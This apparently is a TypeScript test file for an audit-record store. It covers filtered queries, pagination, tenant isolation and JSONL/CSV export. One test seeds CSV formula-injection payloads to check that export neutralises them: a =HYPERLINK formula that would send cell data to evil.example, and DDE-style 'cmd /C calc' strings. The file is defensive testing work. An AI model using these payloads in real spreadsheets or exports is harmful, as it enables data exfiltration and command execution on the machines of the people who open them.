// query() and exportRecords() on PGlite, against expectations computed in JS from the same data
// (query.pg.integration.test.ts does the same at scale on PostgreSQL, with the query plans).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { openPglite } from '../pglite.ts';
import { ErrorCode } from '../gen/tampertrace/v1/common_pb.ts';
import { AuditStore, canonicalJson, type AuditRow } from './store.ts';
import { CSV_COLUMNS, csvCell } from './export.ts';
import { MAX_PAGE_SIZE, pageSize } from './query.ts';
import { allPages, chainRecords, filterCases, insertRows, matchesFilter, newestFirst, syntheticRecords } from './testing.ts';

const START = new Date('2024-01-01T00:00:00Z');
const SPAN = 30 * 86_400_000;
const TENANTS = [{ id: 'ta', weight: 5 }, { id: 'tb', weight: 3 }, { id: 'tc', weight: 2 }];

async function loaded(): Promise<{ store: AuditStore; rows: AuditRow[] }> {
  const db = await openPglite(undefined);
  const store = new AuditStore(db);
  await store.migrate();
  const rows = chainRecords(syntheticRecords({ tenants: TENANTS, count: 1200, seed: 3, start: START, spanMs: SPAN }), new Map());
  await insertRows(db, rows);
  return { store, rows };
}

test('every filter returns exactly the matching records of the tenant, newest first, each once across pages', async () => {
  const { store, rows } = await loaded();
  for (const [name, filter] of filterCases(START, SPAN)) {
    for (const t of TENANTS) {
      const expected = rows.filter((r) => r.tenantId === t.id && matchesFilter(r, filter)).sort(newestFirst);
      const { rows: got } = await allPages(store, t.id, filter, 37);
      assert.deepEqual(got.map((r) => r.eventId), expected.map((r) => r.eventId), `${name}, tenant ${t.id}`);
    }
  }
  // Spot checks that the filters are not trivially empty or full.
  const nose = rows.filter((r) => r.tenantId === 'ta' && r.regions.includes('nose')).length;
  assert.ok(nose > 10 && nose < 400, `nose: ${nose}`);
  await store.close();
});

test('a page returns whole records with their chain fields; the default and maximum page sizes hold', async () => {
  const { store, rows } = await loaded();
  const first = await store.query('ta');
  assert.equal(first.records.length, 100, 'default page size');
  const ta = rows.filter((r) => r.tenantId === 'ta').sort(newestFirst);
  const same = (r: AuditRow) => canonicalJson({ ...r, maxForgeryScore: r.maxForgeryScore === undefined ? undefined : Math.fround(r.maxForgeryScore) });
  assert.equal(same(first.records[0]), same(ta[0]));
  assert.equal((await store.query('ta', {}, { limit: 5000 })).records.length, Math.min(ta.length, MAX_PAGE_SIZE));
  assert.equal(pageSize(5000), MAX_PAGE_SIZE, 'more than the maximum is the maximum');
  assert.equal(pageSize(0), 100);
  await assert.rejects(store.query('ta', {}, { limit: -1 }), (e: { code?: unknown }) => e.code === ErrorCode.INVALID_MESSAGE);
  await assert.rejects(store.query('ta', {}, { cursor: 'not-a-cursor' }), (e: { code?: unknown }) => e.code === ErrorCode.INVALID_MESSAGE);
  await assert.rejects(store.query('ta', { from: new Date('nonsense') }), (e: { code?: unknown }) => e.code === ErrorCode.INVALID_MESSAGE);
  await store.close();
});

test('a cursor from one tenant only moves through the caller\'s own records', async () => {
  const { store } = await loaded();
  const b = await store.query('tb', {}, { limit: 10 });
  const a = await store.query('ta', {}, { limit: 10, cursor: b.nextCursor });
  assert.ok(a.records.length > 0);
  assert.ok(a.records.every((r) => r.tenantId === 'ta'));
  await store.close();
});

test('exportRecords streams JSON lines and CSV of exactly the matching records', async () => {
  const { store, rows } = await loaded();
  const filter = { stage: 'EXPLANATION' };
  const expected = rows.filter((r) => r.tenantId === 'ta' && matchesFilter(r, filter)).sort(newestFirst);
  const chunks: string[] = [];
  for await (const c of store.exportRecords('ta', filter, 'jsonl')) chunks.push(c);
  const lines = chunks.join('').trimEnd().split('\n').map((l) => JSON.parse(l));
  assert.deepEqual(lines.map((l) => l.eventId), expected.map((r) => r.eventId));
  assert.equal(lines[0].recordHash, expected[0].recordHash);
  assert.equal(lines[0].eventTime, expected[0].eventTime.toISOString());

  let csv = '';
  for await (const c of store.exportRecords('ta', filter, 'csv')) csv += c;
  const records = parseCsv(csv);
  assert.deepEqual(records[0], [...CSV_COLUMNS]);
  assert.equal(records.length, expected.length + 1);
  const col = (name: string) => CSV_COLUMNS.indexOf(name as (typeof CSV_COLUMNS)[number]);
  assert.deepEqual(records.slice(1).map((r) => r[col('eventId')]), expected.map((r) => r.eventId));
  assert.equal(records[1][col('explanationText')], expected[0].explanationText, 'text with commas and quotes survives');
  assert.deepEqual(JSON.parse(records[1][col('regions')]), expected[0].regions);

  await assert.rejects(async () => {
    for await (const _ of store.exportRecords('ta', {}, 'xml' as never)) void _;
  }, (e: { code?: unknown }) => e.code === ErrorCode.INVALID_MESSAGE);
  await store.close();
});

test('CSV export neutralises formula cells (=HYPERLINK source name and the rest) while JSON lines keep them as stored', async () => {
  const db = await openPglite(undefined);
  const store = new AuditStore(db);
  await store.migrate();
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
  ];
  const inputs = [...syntheticRecords({ tenants: [{ id: 'ta', weight: 1 }], count: hostile.length + 1, seed: 9, start: START, spanMs: SPAN })];
  inputs.forEach((r, i) => {
    r.sourceName = hostile[i] ?? 'plain-name.png';
    r.submittedBy = i === 0 ? '@attacker' : r.submittedBy;
  });
  const rows = chainRecords(inputs, new Map());
  await insertRows(db, rows);
  const bySequence = new Map(rows.map((r) => [r.sequence, r]));
  const col = (name: string) => CSV_COLUMNS.indexOf(name as (typeof CSV_COLUMNS)[number]);

  let csv = '';
  for await (const c of store.exportRecords('ta', {}, 'csv')) csv += c;
  const records = parseCsv(csv).slice(1);
  assert.equal(records.length, rows.length);
  for (const rec of records) {
    const row = bySequence.get(Number(rec[col('sequence')]));
    assert.ok(row, `sequence ${rec[col('sequence')]}`);
    const expected = /^[=+\-@\t\r]/.test(row.sourceName ?? '') ? `'${row.sourceName}` : row.sourceName;
    assert.equal(rec[col('sourceName')], expected);
    for (const cell of rec) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'no exported cell starts like a formula');
  }
  const first = records.find((r) => r[col('sourceName')].startsWith("'=HYPERLINK"));
  assert.equal(first?.[col('submittedBy')], "'@attacker");
  assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`), 'the neutralised cell is quoted');
  assert.ok(records.some((r) => r[col('sourceName')] === 'plain-name.png'), 'ordinary text is unchanged');

  const lines: AuditRow[] = [];
  let jsonl = '';
  for await (const c of store.exportRecords('ta', {}, 'jsonl')) jsonl += c;
  for (const l of jsonl.trimEnd().split('\n')) lines.push(JSON.parse(l));
  assert.deepEqual(lines.map((l) => l.sourceName).sort(), rows.map((r) => r.sourceName).sort(), 'JSON lines are lossless');
  await store.close();
});

test('csvCell leaves numbers (negative ones too) and ordinary text alone and quotes only what needs it', () => {
  assert.equal(csvCell(-0.5), '-0.5');
  assert.equal(csvCell(42), '42');
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('x=1'), 'x=1');
  assert.equal(csvCell('-x'), `"'-x"`);
  assert.equal(csvCell(undefined), '');
});

/** RFC 4180: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(s: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < s.length; i++) {
    const ch = s[i];
    if (quoted) {
      if (ch === '"' && s[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && s[i + 1] === '\n') {
      row.push(cell);
      out.push(row);
      (row = []), (cell = ''), i++;
    } else cell += ch;
  }
  return out;
}
